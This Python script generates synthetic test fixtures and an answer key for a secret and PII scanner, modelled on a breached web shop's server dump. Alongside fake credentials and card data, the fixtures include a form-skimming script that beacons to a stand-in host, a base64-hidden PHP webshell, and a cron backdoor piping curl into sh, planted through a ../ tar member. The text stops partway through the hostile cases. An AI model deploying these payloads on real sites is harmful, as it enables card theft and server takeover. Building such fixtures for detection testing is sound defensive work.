#!/usr/bin/env python3
"""Sixteenth hostile dump with an answer key (tests/e2e/test_hostile15.py).

make_hostile15.py OUT -> OUT/dump/... and OUT/key.json

Same key format as make_hostile3.py (its docstring lists the expect
fields) and make_hostile8.py's checker (entities_only, exact); the shared
helpers are tests/gen/hostile_common.py. This one lays out what leaks when
a WEB HOST or ONLINE SHOP is compromised and its server dumped (Magento and
WooCommerce card skimming, the Ashley Madison and Adult FriendFinder dumps,
cPanel backups), each file written by hand from the format's documented
layout with the standard library, with fake secrets and PII:

- site backups: a cPanel `backup-<date>_<user>.tar.gz` (homedir/public_html,
  mysql/<db>.sql, .htpasswd, .my.cnf), a WordPress wp-config.php (DB_PASSWORD
  and the auth salts), a Magento app/etc/env.php (PHP array syntax) and
  app/etc/local.xml, a Laravel .env, a Django settings.py;
- database dumps: mysqldump with extended INSERTs (escaped quotes, \\n, hex
  literals 0x.., _binary blobs, many rows a statement), a WooCommerce/Magento
  orders table with card numbers (full PANs that pass Luhn, and masked
  4539********1234 that must not count), customers with e-mail addresses,
  phones and addresses, password hashes (bcrypt, phpass: reported as
  password_hash, not password: a responder must force resets, but the hash
  is not the password), a mysqldump --tab .sql/.txt pair, a gzip'd and an
  xz'd dump, a dump cut in the middle of an INSERT;
- web server state: access logs (combined format) with PII in query strings,
  percent-encoded (email=jane%40..., card=4539%201234..., + for spaces), a
  rotated access.log.2.gz, a cut gzip'd log, an error log with POST bodies,
  PHP session files (sess_<id>, PHP's serialize format), serialized PHP in a
  database column, a skimmer's exfil file (base64 lines of card JSON), a JSON
  order export, an Elasticsearch bulk NDJSON export, a mongoexport JSON with
  {"$oid": ...}, a Redis append-only file of sessions;
- hostile touches: a webshell (eval(base64_decode(...)) holding the database
  password), a tar with a ../ member and a symlink to /etc/shadow, a zip bomb
  named backup.zip, a ZipCrypto zip of the database dump, a .jpg that is a SQL
  dump.

"gap" and "arguable" marks as make_hostile3.py's docstring says.

Python stdlib only; deterministic.
"""
import base64
import gzip
import io
import json
import lzma
import os
import random
import sys
import tarfile
import urllib.parse
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile_common as hc  # noqa: E402
import gen_hostile as gh  # noqa: E402  (raw zip entries, ZipCrypto)

FP_KEY = b"hostile15 fingerprint key, test only"
D = hc.Dump(FP_KEY, domain="mail-example.test", ssn_base=520)
key, put, person, pl = D.key, D.put, D.person, D.pl
check = hc.check
WEB = "shop-web01"
HOME = WEB + "/home/shopuser"
HTML = HOME + "/public_html"
LOGS = WEB + "/var/log/apache2"
R = random.Random(1518)
ALNUM = hc.ALNUM
TS = 1416819600  # 2014-11-24 09:00 UTC


def rs(n, alphabet=ALNUM):
    return hc.rand_str(R, n, alphabet)


def pw():
    """A password a policy would accept: letters, digits, a symbol."""
    return rs(10) + R.choice("!#%&*+") + rs(3)


def bcrypt():
    return "$2y$10$" + rs(53, ALNUM + "./")


def phpass():
    return "$P$B" + rs(30, ALNUM + "./")


def masked(card):
    return card[:4] + "*" * 8 + card[-4:]


def tarb(members, gz=False):
    """[(name, bytes) | (name, None) dir | (name, ('sym', target))] -> tar bytes."""
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.mtime = TS
            ti.uname = ti.gname = "shopuser"
            if data is None:
                ti.type, ti.mode = tarfile.DIRTYPE, 0o755
                t.addfile(ti)
            elif isinstance(data, tuple):
                ti.type, ti.linkname = tarfile.SYMTYPE, data[1]
                t.addfile(ti)
            else:
                ti.size, ti.mode = len(data), 0o644
                t.addfile(ti, io.BytesIO(data))
    raw = b.getvalue()
    return gzip.compress(raw, mtime=TS) if gz else raw


def sq(s):
    """A MySQL string literal as mysqldump writes it."""
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n").replace('"', '\\"') + "'"


def php_ser(d):
    """PHP serialize() of a dict of strings (lengths in bytes)."""
    parts = []
    for k, v in d.items():
        parts.append('s:%d:"%s";s:%d:"%s";' % (len(k.encode()), k, len(v.encode()), v))
    return "a:%d:{%s}" % (len(d), "".join(parts))


HEAD = ("-- MySQL dump 10.13  Distrib 5.5.40, for debian-linux-gnu (x86_64)\n--\n"
        "-- Host: localhost    Database: %s\n"
        "-- ------------------------------------------------------\n-- Server version\t5.5.40-0ubuntu0.14.04.1\n\n"
        "/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;\n/*!40101 SET NAMES utf8 */;\n"
        "/*!40014 SET @OLD_UNIQUE_CHECKS=@@UNIQUE_CHECKS, UNIQUE_CHECKS=0 */;\n\n")


def table_sql(name, cols, rows):
    """CREATE TABLE, LOCK, one extended INSERT with ROWS (already SQL literals)."""
    defs = ",\n".join("  `%s` %s" % c for c in cols)
    out = ("--\n-- Table structure for table `%s`\n--\n\nDROP TABLE IF EXISTS `%s`;\n"
           "CREATE TABLE `%s` (\n%s,\n  PRIMARY KEY (`%s`)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8;\n\n"
           "LOCK TABLES `%s` WRITE;\n/*!40000 ALTER TABLE `%s` DISABLE KEYS */;\n"
           % (name, name, name, defs, cols[0][0], name, name))
    out += "INSERT INTO `%s` VALUES %s;\n" % (name, ",".join("(" + ",".join(r) + ")" for r in rows))
    out += "/*!40000 ALTER TABLE `%s` ENABLE KEYS */;\nUNLOCK TABLES;\n\n" % name
    return out


def customers_sql(people, start=1):
    cols = [("customer_id", "int(10) unsigned NOT NULL AUTO_INCREMENT"), ("firstname", "varchar(64)"),
            ("lastname", "varchar(64)"), ("email", "varchar(255)"), ("telephone", "varchar(32)"),
            ("street", "text"), ("password_hash", "varchar(128)")]
    rows = []
    for i, p in enumerate(people):
        last = p["last"] if i % 2 else "O'" + p["last"]
        rows.append([str(start + i), sq(p["first"]), sq(last), sq(p["email"]), sq(p["phone"]),
                     sq("%d Elm Street\nApt %d" % (100 + p["n"], p["n"])), sq(bcrypt() if i % 2 else phpass())])
    return table_sql("customer_entity", cols, rows)


def orders_sql(people, masked_people=()):
    cols = [("entity_id", "int(10) unsigned NOT NULL AUTO_INCREMENT"), ("customer_email", "varchar(255)"),
            ("cc_type", "varchar(32)"), ("cc_number", "varchar(32)"), ("cc_exp", "varchar(8)"),
            ("grand_total", "decimal(12,4)"), ("payload", "blob")]
    rows = []
    for i, p in enumerate(people):
        rows.append([str(1000 + i), sq(p["email"]), "'VI'", sq(p["card"]), "'12/17'", "%d.9900" % (20 + i),
                     "_binary " + sq("gift wrap")])
    for i, p in enumerate(masked_people):
        rows.append([str(2000 + i), "NULL", "'VI'", sq(masked(p["card"])), "'09/16'", "12.5000", "NULL"])
    return table_sql("sales_flat_order_payment", cols, rows)


# ---------------------------------------------------------------- site backups and config
def config_cases():
    # a cPanel full backup: backup-MM.DD.YYYY_HH-MM-SS_user.tar.gz
    ppl = [person() for _ in range(3)]
    db_pw, my_pw, ht_user = pw(), pw(), "admin"
    salts = {k: rs(64, ALNUM + "!@#%^&*()-_[]{}<>~+=,.;:/?|") for k in
             ("AUTH_KEY", "SECURE_AUTH_KEY", "LOGGED_IN_KEY", "NONCE_KEY")}
    wpc = ("<?php\n/** The base configuration for WordPress */\n"
           "define('DB_NAME', 'shopuser_wp');\ndefine('DB_USER', 'shopuser_wp');\n"
           "define('DB_PASSWORD', '%s');\ndefine('DB_HOST', 'localhost');\ndefine('DB_CHARSET', 'utf8');\n\n"
           % db_pw + "".join("define('%s', '%s');\n" % kv for kv in salts.items())
           + "\n$table_prefix  = 'wp_';\ndefine('WP_DEBUG', false);\nrequire_once(ABSPATH . 'wp-settings.php');\n")
    mycnf = "[client]\nuser=\"shopuser\"\npass=\"%s\"\n" % my_pw
    ht_hash = "$apr1$" + rs(8, ALNUM) + "$" + rs(22, ALNUM + "./")
    htp = "%s:%s\n" % (ht_user, ht_hash)
    sql = HEAD % "shopuser_wp" + customers_sql(ppl)
    base = "backup-11.24.2014_08-00-00_shopuser"
    tgz = tarb([(base + "/", None), (base + "/homedir/", None),
                (base + "/homedir/public_html/wp-config.php", wpc.encode()),
                (base + "/homedir/public_html/.htpasswd", htp.encode()),
                (base + "/homedir/.my.cnf", mycnf.encode()),
                (base + "/homedir/public_html/index.php", b"<?php\ndefine('WP_USE_THEMES', true);\n"
                 b"require( dirname( __FILE__ ) . '/wp-blog-header.php' );\n"),
                (base + "/mysql/", None),
                (base + "/mysql/shopuser_wp.sql", sql.encode()),
                (base + "/mysql/shopuser_wp.create", b"CREATE DATABASE `shopuser_wp`;\n")], gz=True)
    r = put(HOME + "/backups/" + base + ".tar.gz", tgz)
    key("cpanel_planted", r, None, planted_under={"password": [db_pw, my_pw], "email": [p["email"] for p in ppl],
                                                  "phone": [p["phone10"] for p in ppl]})
    key("cpanel_htpasswd_hash", r, [base + "/homedir/public_html/.htpasswd"], entities_all=["password_hash"],
        verdict="sensitive")
    key("cpanel_wpconfig", r, [base + "/homedir/public_html/wp-config.php"], planted={"password": [db_pw]})
    key("cpanel_mycnf", r, [base + "/homedir/.my.cnf"], exact={"password": [my_pw]})
    key("cpanel_sql", r, [base + "/mysql/shopuser_wp.sql"], planted=pl(*ppl, ssn=False, phone=True),
        entities_all=["password_hash"])
    key("cpanel_index_clean", r, [base + "/homedir/public_html/index.php"], no_findings=True)
    key("cpanel_full", r, [], coverage="full", verdict="sensitive")

    # the live WordPress tree
    wp_pw = pw()
    r = put(HTML + "/wp-config.php", wpc.replace(db_pw, wp_pw).encode())
    key("wpconfig_db_password", r, [], planted={"password": [wp_pw]}, verdict="sensitive")
    # the auth keys and salts sign WordPress's login cookies: a responder rotates them, but whether
    # they are findings (token) or only a reason to rotate is arguable
    key("wpconfig_salts", r, [], planted={"token": [salts["AUTH_KEY"]]}, arguable=True)
    # Magento 2 app/etc/env.php: a PHP array
    mg_pw, mg_key = pw(), rs(32, "0123456789abcdef")
    env = ("<?php\nreturn array (\n  'backend' => \n  array (\n    'frontName' => 'admin_1x9z',\n  ),\n"
           "  'crypt' => \n  array (\n    'key' => '%s',\n  ),\n  'db' => \n  array (\n"
           "    'table_prefix' => '',\n    'connection' => \n    array (\n      'default' => \n      array (\n"
           "        'host' => 'localhost',\n        'dbname' => 'magento',\n        'username' => 'magento',\n"
           "        'password' => '%s',\n        'active' => '1',\n      ),\n    ),\n  ),\n"
           "  'MAGE_MODE' => 'production',\n);\n" % (mg_key, mg_pw))
    r = put(WEB + "/var/www/magento2/app/etc/env.php", env.encode())
    key("magento_env_php", r, [], planted={"password": [mg_pw]}, verdict="sensitive")
    # Magento's crypt key decrypts what the shop stored encrypted (Magento 1: saved card numbers,
    # payment gateway credentials): secret_app_master_key's $magento
    key("magento_crypt_key", r, [], planted={"token": [mg_key]})
    # Magento 1 app/etc/local.xml: CDATA values
    m1_pw = pw()
    lx = ("<?xml version=\"1.0\"?>\n<config>\n  <global>\n    <install><date><![CDATA[Mon, 24 Nov 2014 08:00:00 +0000]]>"
          "</date></install>\n    <crypt><key><![CDATA[%s]]></key></crypt>\n    <resources>\n      <default_setup>\n"
          "        <connection>\n          <host><![CDATA[localhost]]></host>\n"
          "          <username><![CDATA[magento]]></username>\n          <password><![CDATA[%s]]></password>\n"
          "          <dbname><![CDATA[magento]]></dbname>\n        </connection>\n      </default_setup>\n"
          "    </resources>\n  </global>\n</config>\n" % (rs(32, "0123456789abcdef"), m1_pw))
    r = put(WEB + "/var/www/magento1/app/etc/local.xml", lx.encode())
    # <password><![CDATA[value]]></password>: secret_password_assignment's $xml_cdata
    key("magento_local_xml", r, [], planted={"password": [m1_pw]}, verdict="sensitive")
    # Laravel .env
    lv_pw, sk, mail_pw = pw(), "sk_live_" + rs(24), pw()
    dotenv = ("APP_NAME=Shop\nAPP_ENV=production\nAPP_KEY=base64:%s\nAPP_DEBUG=false\n\nDB_CONNECTION=mysql\n"
              "DB_HOST=127.0.0.1\nDB_PORT=3306\nDB_DATABASE=shop\nDB_USERNAME=shop\nDB_PASSWORD=%s\n\n"
              "MAIL_HOST=smtp.mailgun.org\nMAIL_USERNAME=postmaster@shop.test\nMAIL_PASSWORD=%s\n\nSTRIPE_SECRET=%s\n"
              % (base64.b64encode(bytes(R.randrange(256) for _ in range(32))).decode(), lv_pw, mail_pw, sk))
    r = put(WEB + "/var/www/laravel/.env", dotenv.encode())
    key("laravel_env", r, [], planted={"password": [lv_pw, mail_pw], "token": [sk]}, verdict="sensitive")
    # Django settings.py
    dj_pw, dj_key = pw(), rs(50, "abcdefghijklmnopqrstuvwxyz0123456789!@#%^&*(-_=+)")
    st = ("import os\n\nSECRET_KEY = '%s'\nDEBUG = False\nALLOWED_HOSTS = ['shop.test']\n\nDATABASES = {\n"
          "    'default': {\n        'ENGINE': 'django.db.backends.postgresql_psycopg2',\n        'NAME': 'shop',\n"
          "        'USER': 'shop',\n        'PASSWORD': '%s',\n        'HOST': 'db1.internal',\n    }\n}\n"
          % (dj_key, dj_pw))
    r = put(WEB + "/srv/django/shop/settings.py", st.encode())
    key("django_settings", r, [], planted={"password": [dj_pw]}, verdict="sensitive")
    # Django's SECRET_KEY signs sessions (and unpickles them with PickleSerializer): a secret, its
    # alphabet (!@#%^&*(-_=+)) read by secret_app_master_key's $django
    key("django_secret_key", r, [], planted={"token": [dj_key]})
    # a hand-written PHP shop's config: the password passed by position (secret_password_kv's $dbconnect)
    cf_pw, pdo_pw = pw(), pw()
    r = put(HTML + "/includes/config.php", ("<?php\n$link = mysqli_connect(\"localhost\", \"shop\", \"%s\", \"shop\");\n"
                                            "$pdo = new PDO('mysql:host=db1.internal;dbname=shop', 'report', '%s');\n"
                                            "$old = mysql_connect(\"localhost\", \"root\", \"$password\");\n"
                                            % (cf_pw, pdo_pw)).encode())
    key("php_connect_positional", r, [], exact={"password": [cf_pw, pdo_pw]}, verdict="sensitive")
    r = put(HTML + "/robots.txt", b"User-agent: *\nDisallow: /wp-admin/\nAllow: /wp-admin/admin-ajax.php\n")
    key("robots_clean", r, [], no_findings=True, verdict="clean")


# ---------------------------------------------------------------- database dumps
def db_cases():
    ppl = [person() for _ in range(4)]
    buyers = [person() for _ in range(3)]
    mask_only = [person() for _ in range(2)]
    hexp = person()
    hex_lit = "0x" + ("Contact %s" % hexp["email"]).encode().hex()
    meta_p = person()
    meta = php_ser({"billing_email": meta_p["email"], "billing_phone": meta_p["phone"]})
    sql = HEAD % "magento" + customers_sql(ppl) + orders_sql(buyers, mask_only)
    sql += table_sql("wp_usermeta", [("umeta_id", "bigint(20) unsigned NOT NULL AUTO_INCREMENT"),
                                     ("user_id", "bigint(20)"), ("meta_key", "varchar(255)"), ("meta_value", "longtext")],
                     [["1", "7", "'billing'", sq(meta)], ["2", "7", "'notes'", hex_lit]])
    r = put(WEB + "/root/dumps/magento-2014-11-24.sql", sql.encode())
    key("mysqldump_customers", r, [], planted=pl(*ppl, ssn=False, phone=True), entities_all=["password_hash"],
        verdict="sensitive")
    key("mysqldump_cards_full_only", r, [], exact={"credit_card": [p["card"] for p in buyers]})
    key("mysqldump_php_serialized", r, [], planted=pl(meta_p, ssn=False, phone=True))
    key("mysqldump_hex_literal", r, [], planted=pl(hexp, ssn=False))
    key("mysqldump_full", r, [], coverage="full")
    # a masked-only payments table: no card
    mo = [person() for _ in range(3)]
    r = put(WEB + "/root/dumps/payments-masked.sql",
            (HEAD % "magento" + orders_sql([], mo)).encode())
    key("masked_cards_no_card", r, [], entities_only=[], verdict="clean")
    # gzip'd and xz'd dumps
    gz_p, xz_p = [person() for _ in range(2)], [person() for _ in range(2)]
    r = put(WEB + "/root/dumps/shop-daily.sql.gz",
            gzip.compress((HEAD % "shop" + orders_sql(gz_p)).encode(), mtime=TS))
    key("sql_gz_cards", r, None, planted_under=pl(*gz_p, ssn=False, cc=True), verdict="sensitive")
    r = put(WEB + "/root/dumps/shop-weekly.sql.xz", lzma.compress((HEAD % "shop" + orders_sql(xz_p)).encode(),
                                                                  format=lzma.FORMAT_XZ))
    key("sql_xz_cards", r, None, planted_under=pl(*xz_p, ssn=False, cc=True), verdict="sensitive")
    # a dump cut in the middle of an extended INSERT
    cut_p = [person() for _ in range(3)]
    full = (HEAD % "shop" + customers_sql(cut_p)).encode()
    cut_at = full.index(cut_p[2]["email"].encode()) + 5
    r = put(WEB + "/root/dumps/shop-partial.sql", full[:cut_at])
    key("sql_cut_rows_before", r, [], planted=pl(*cut_p[:2], ssn=False))
    # the file is whole but its data is not: the rest of the table is elsewhere (or lost)
    key("sql_cut_partial", r, [], coverage="partial", reasons_all=["truncated"])
    # a note that quotes an INSERT and ends inside its string: no dump, not cut
    r = put(HOME + "/notes/sql-howto.txt", b"To add a product by hand:\n\nINSERT INTO catalog_product VALUES (17, 'Summer "
            b"hat', 'SKU-17');\nINSERT INTO catalog_product VALUES (18, 'the name goes here, it\n")
    key("sql_note_not_cut", r, [], coverage="full", no_findings=True)
    # mysqldump --tab: orders.sql (the table) and orders.txt (tab-separated rows)
    tab_p = [person() for _ in range(3)]
    put(WEB + "/root/dumps/tab/sales_order.sql",
        (HEAD % "shop" + "DROP TABLE IF EXISTS `sales_order`;\nCREATE TABLE `sales_order` (\n"
         "  `entity_id` int(10) unsigned NOT NULL,\n  `customer_email` varchar(255),\n"
         "  `customer_telephone` varchar(32),\n  `cc_number` varchar(32),\n  PRIMARY KEY (`entity_id`)\n"
         ") ENGINE=InnoDB DEFAULT CHARSET=utf8;\n").encode())
    key("tab_sql_clean", WEB + "/root/dumps/tab/sales_order.sql", [], no_findings=True)
    txt = "".join("%d\t%s\t%s\t%s\n" % (i + 1, p["email"], p["phone"], p["card"]) for i, p in enumerate(tab_p))
    r = put(WEB + "/root/dumps/tab/sales_order.txt", txt.encode())
    key("tab_txt_rows", r, [], planted=pl(*tab_p, ssn=False, phone=True, cc=True), verdict="sensitive")
    # a .jpg that is a SQL dump
    jp = [person() for _ in range(2)]
    r = put(HTML + "/wp-content/uploads/2014/11/banner-1200x400.jpg", (HEAD % "shop" + orders_sql(jp)).encode())
    # hostile, not only sensitive: a dump dressed as an image is concealment (ext_mismatch makes the verdict)
    key("jpg_is_sql", r, [], planted=pl(*jp, ssn=False, cc=True), alerts_all=["ext_mismatch"], verdict="hostile")


# ---------------------------------------------------------------- web server state
def access_line(ip, path, status=200, ua="Mozilla/5.0 (Windows NT 6.1; WOW64; rv:33.0) Gecko/20100101 Firefox/33.0",
                method="GET", ref="-", t="24/Nov/2014:08:%02d:%02d +0000", n=0):
    return '%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"\n' % (
        ip, t % (n // 60 % 60, n % 60), method, path, status, 512 + 7 * n, ref, ua)


def log_cases():
    # access log: PII in query strings, percent-encoded
    a, b, c, d = person(), person(), person(), person()
    lines = [access_line("203.0.113.7", "/", n=1), access_line("203.0.113.7", "/static/app.css", n=2)]
    lines.append(access_line("203.0.113.7", "/customer/account/create?email=%s&telephone=%s&firstname=%s"
                             % (urllib.parse.quote(a["email"], safe=""), urllib.parse.quote_plus(a["phone"]),
                                urllib.parse.quote_plus(a["first"])), n=3))
    lines.append(access_line("198.51.100.23", "/checkout/onepage/savePayment?payment%%5Bcc_number%%5D=%s"
                             "&payment%%5Bcc_exp_month%%5D=12&email=%s"
                             % (urllib.parse.quote(hc.spaced(b["card"])), urllib.parse.quote(b["email"], safe="")), n=4))
    lines.append(access_line("198.51.100.23", "/api/pay?card=%s&name=%s" % (
        urllib.parse.quote_plus(hc.spaced(c["card"])), urllib.parse.quote_plus(c["name"])), n=5))
    lines.append(access_line("192.0.2.44", "/newsletter/subscribe?email=%s&phone=%s" % (
        urllib.parse.quote(d["email"], safe=""), urllib.parse.quote(d["phone"], safe="")), n=6))
    lines += [access_line("192.0.2.44", "/wp-login.php", status=302, method="POST", n=7 + i) for i in range(3)]
    r = put(LOGS + "/access.log", "".join(lines).encode())
    key("access_log_emails", r, [], exact={"email": [a["email"], b["email"], d["email"]]}, verdict="sensitive")
    # the card written 4539%201234... and 4539+1234+..., the phone %28212%29+620-1097: each value once
    # (src/extract/urlquery.c)
    key("access_log_card_pct20", r, [], planted={"credit_card": [b["card"]]})
    key("access_log_card_plus", r, [], planted={"credit_card": [c["card"]]})
    key("access_log_cards_once", r, [], exact={"credit_card": [b["card"], c["card"]]})
    key("access_log_phone_pct", r, [], exact={"phone": [a["phone10"], d["phone10"]]})
    # a rotated log, gzip'd
    e = person()
    rot = [access_line("203.0.113.9", "/", n=i) for i in range(20)]
    rot.insert(9, access_line("203.0.113.9", "/account/reset?email=%s" % urllib.parse.quote(e["email"], safe=""), n=9))
    r = put(LOGS + "/access.log.2.gz", gzip.compress("".join(rot).encode(), mtime=TS))
    key("rotated_log_email", r, None, planted_under={"email": [e["email"]]}, verdict="sensitive")
    # a cut gzip'd log: the lines before the cut are read
    f = person()
    big = [access_line("203.0.113.%d" % (i % 200), "/catalog/product/view/id/%d" % i, n=i) for i in range(400)]
    big.insert(5, access_line("203.0.113.5", "/checkout?email=%s" % urllib.parse.quote(f["email"], safe=""), n=5))
    gz = gzip.compress("".join(big).encode(), mtime=TS)
    r = put(LOGS + "/access.log.3.gz", gz[:len(gz) // 2])
    key("cut_gz_log_email", r, None, planted_under={"email": [f["email"]]})
    key("cut_gz_log_partial", r, None, reasons_under=["truncated"])
    # error log: a POST body dumped by a debug plugin
    g = person()
    g_pw = pw()
    body = "login%%5Busername%%5D=%s&login%%5Bpassword%%5D=%s&form_key=x8Hq2" % (
        urllib.parse.quote(g["email"], safe=""), urllib.parse.quote(g_pw, safe=""))
    el = ("[Mon Nov 24 08:10:01.123456 2014] [:error] [pid 2211] [client 198.51.100.23:51234] PHP Notice:  "
          "Undefined index: remember in /home/shopuser/public_html/app/code/Login.php on line 88\n"
          "[Mon Nov 24 08:10:01.123500 2014] [:error] [pid 2211] [client 198.51.100.23:51234] DEBUG POST body: %s\n"
          "[Mon Nov 24 08:10:02.000000 2014] [core:notice] [pid 1100] AH00094: Command line: '/usr/sbin/apache2'\n"
          % body)
    r = put(LOGS + "/error.log", el.encode())
    key("error_log_post_email", r, [], planted={"email": [g["email"]]})
    # login%5Bpassword%5D=...: the form's password field, percent-encoded
    key("error_log_post_password", r, [], exact={"password": [g_pw]})
    # PHP session files: sess_<id>, serialize handler "php" (name|value)
    h = person()
    sess = ('customer_id|i:77;email|s:%d:"%s";telephone|s:%d:"%s";cart|a:1:{s:9:"cc_number";s:16:"%s";}'
            % (len(h["email"]), h["email"], len(h["phone"]), h["phone"], h["card"]))
    r = put(WEB + "/var/lib/php5/sess_9g2lmb1q8v6s0e7d3k4f5h6j71", sess.encode())
    key("php_session", r, [], planted=pl(h, ssn=False, phone=True, cc=True), verdict="sensitive")
    r = put(WEB + "/var/lib/php5/sess_0a1b2c3d4e5f6a7b8c9d0e1f2a", b'lang|s:2:"en";last_seen|i:1416819600;')
    key("php_session_clean", r, [], no_findings=True)
    # ModSecurity's audit log (SecAuditLogParts ABCFZ): part C is the request body as sent, a form
    # urlencoded: the card glued to its escaped name (payment%5Bcc_number%5D=4539...), the phone
    # %2B1+312+...; an address escaped twice by a proxy (%2540)
    m, m2 = person(), person()
    body = ("billing%%5Bemail%%5D=%s&billing%%5Btelephone%%5D=%s&payment%%5Bmethod%%5D=ccsave"
            "&payment%%5Bcc_number%%5D=%s&payment%%5Bcc_cid%%5D=%03d" % (
                urllib.parse.quote(m["email"], safe=""), urllib.parse.quote_plus("+1 " + m["phone"]), m["card"],
                100 + m["n"]))
    audit = "".join((
        "--5b1e4c2a-A--\n[24/Nov/2014:08:11:%02d +0000] VHc2xX8AAQEAAAfJAAAAA%02d 198.51.100.23 51234 10.0.0.5 443\n"
        "--5b1e4c2a-B--\nPOST /checkout/onepage/saveBilling/ HTTP/1.1\nHost: shop.test\n"
        "Content-Type: application/x-www-form-urlencoded\nContent-Length: %d\n\n"
        "--5b1e4c2a-C--\n%s\n\n--5b1e4c2a-F--\nHTTP/1.1 200 OK\n\n--5b1e4c2a-Z--\n\n") % (i, i, len(b), b)
        for i, b in enumerate((body, "newsletter=1&email=%s" % urllib.parse.quote(
            urllib.parse.quote(m2["email"], safe=""), safe=""))))
    r = put(WEB + "/var/log/modsec_audit.log", audit.encode())
    key("modsec_emails", r, [], exact={"email": [m["email"], m2["email"]]}, verdict="sensitive")
    key("modsec_card_phone", r, [], exact={"credit_card": [m["card"]], "phone": [m["phone10"]]})
    # the shell history: the database password on the command line
    bh_pw, bh_pw2 = pw(), pw()
    r = put(HOME + "/.bash_history", ("cd public_html\nmysql -u shopuser -p%s shopuser_wp\n"
                                      "mysqldump -uroot --password='%s' --all-databases > /root/all.sql\n"
                                      "wget -q http://198.51.100.66/x.php -O wp-content/uploads/2014/11/wp-cache.php\n"
                                      % (bh_pw, bh_pw2)).encode())
    key("bash_history_passwords", r, [], exact={"password": [bh_pw, bh_pw2]}, verdict="sensitive")


def skimmer_cases():
    # the skimmer's exfil file: base64 of JSON card records, one a line
    vic = [person() for _ in range(3)]
    recs = [json.dumps({"n": p["name"], "cc": p["card"], "exp": "11/17", "cvv": "%03d" % (100 + p["n"]),
                        "em": p["email"]}, separators=(",", ":")) for p in vic]
    r = put(HTML + "/media/catalog/product/cache/1/image/.cache.dat",
            "".join(base64.b64encode(x.encode()).decode() + "\n" for x in recs).encode())
    # each line decodes to compact JSON (no blanks): src/extract/b64blob.c takes text that opens as JSON
    key("skimmer_b64_lines", r, None, planted_under=pl(*vic, ssn=False, cc=True), verdict="sensitive")
    # the skimmer itself: JavaScript with the exfil host, no data
    js = (b"(function(){var u='https://cdn-jquery-lib.test/collect';document.addEventListener('submit',function(e)"
          b"{var d={};[].forEach.call(e.target.elements,function(x){d[x.name]=x.value});"
          b"navigator.sendBeacon(u,btoa(JSON.stringify(d)))})})();\n")
    r = put(HTML + "/js/mage/cookies.js", js)
    key("skimmer_js_clean", r, [], no_findings=True)
    # a JSON lines copy the attacker left in plain text
    vic2 = [person() for _ in range(2)]
    r = put(WEB + "/tmp/.ICE-unix/.x/cc.jsonl", "".join(json.dumps(
        {"number": p["card"], "exp": "10/18", "holder": p["name"], "email": p["email"], "phone": p["phone"]}) + "\n"
        for p in vic2).encode())
    key("skimmer_jsonl", r, [], planted=pl(*vic2, ssn=False, cc=True, phone=True), verdict="sensitive")
    # the webshell: eval(base64_decode(...)) holding the database password
    ws_pw = pw()
    inner = ("$c=mysqli_connect('localhost','root','%s','magento');if(isset($_REQUEST['q'])){"
             "$r=mysqli_query($c,$_REQUEST['q']);while($w=mysqli_fetch_row($r))echo implode(\"\\t\",$w).\"\\n\";}"
             % ws_pw)
    ws = "<?php /* WP cache helper */ @eval(base64_decode('%s')); ?>\n" % base64.b64encode(inner.encode()).decode()
    r = put(HTML + "/wp-content/uploads/2014/11/wp-cache.php", ws.encode())
    # the payload is minified PHP (src/extract/b64blob.c decodes it), the password passed by position
    # (secret_password_kv's $dbconnect)
    key("webshell_b64_password", r, None, planted_under={"password": [ws_pw]})
    key("webshell_not_clean", r, [], verdict_in=["sensitive", "hostile"])


def export_cases():
    # a WooCommerce JSON order export
    ex = [person() for _ in range(3)]
    orders = [{"id": 500 + i, "status": "processing", "billing": {
        "first_name": p["first"], "last_name": p["last"], "address_1": "%d Oak Avenue" % (10 + i),
        "city": "Springfield", "email": p["email"], "phone": p["phone"]},
        "payment_method_title": "Credit Card (Stripe)", "transaction_id": "ch_" + rs(24)} for i, p in enumerate(ex)]
    r = put(WEB + "/root/exports/orders-2014-11.json", json.dumps(orders, indent=2).encode())
    key("woo_orders_json", r, [], planted=pl(*ex, ssn=False, phone=True), verdict="sensitive")
    # an Elasticsearch bulk export (action line, source line)
    es = [person() for _ in range(3)]
    nd = "".join(json.dumps({"index": {"_index": "customers", "_type": "customer", "_id": str(i)}}) + "\n"
                 + json.dumps({"name": p["name"], "email": p["email"], "phone": p["phone"], "ssn": p["ssn"]}) + "\n"
                 for i, p in enumerate(es))
    r = put(WEB + "/root/exports/customers-bulk.ndjson", nd.encode())
    key("es_bulk", r, [], planted=pl(*es, phone=True), verdict="sensitive")
    # mongoexport: extended JSON, {"$oid": ...}, {"$date": ...}
    mg = [person() for _ in range(3)]
    mx = "".join(json.dumps({"_id": {"$oid": "5472e6%018x" % (i * 7919)}, "email": p["email"],
                             "card": {"last4": p["card"][-4:], "pan": p["card"]},
                             "created": {"$date": "2014-11-24T08:00:00.000Z"}}) + "\n" for i, p in enumerate(mg))
    r = put(WEB + "/root/exports/mongo-customers.json", mx.encode())
    key("mongoexport", r, [], planted=pl(*mg, ssn=False, cc=True), verdict="sensitive")
    # a Redis append-only file of PHP sessions (RESP commands)
    rd = [person() for _ in range(2)]

    def resp(*args):
        out = b"*%d\r\n" % len(args)
        for a in args:
            a = a if isinstance(a, bytes) else a.encode()
            out += b"$%d\r\n%s\r\n" % (len(a), a)
        return out
    aof = resp("SELECT", "0")
    for i, p in enumerate(rd):
        v = 'email|s:%d:"%s";cc|s:16:"%s";' % (len(p["email"]), p["email"], p["card"])
        aof += resp("SET", "PHPREDIS_SESSION:%026x" % (i + 99), v) + resp("EXPIRE", "PHPREDIS_SESSION:%026x" % (i + 99), "1440")
    r = put(WEB + "/var/lib/redis/appendonly.aof", aof)
    key("redis_aof_sessions", r, None, planted_under=pl(*rd, ssn=False, cc=True), verdict="sensitive")


# ---------------------------------------------------------------- hostile touches
def hostile_cases():
    # a tar with a ../ member and a symlink to /etc/shadow
    tp = person()
    t = tarb([("site/", None), ("site/customers.csv", ("email,phone\n%s,%s\n" % (tp["email"], tp["phone"])).encode()),
              ("../../../etc/cron.d/backdoor", b"* * * * * root curl -s http://198.51.100.66/x | sh\n"),
              ("site/shadow", ("sym", "/etc/shadow"))])
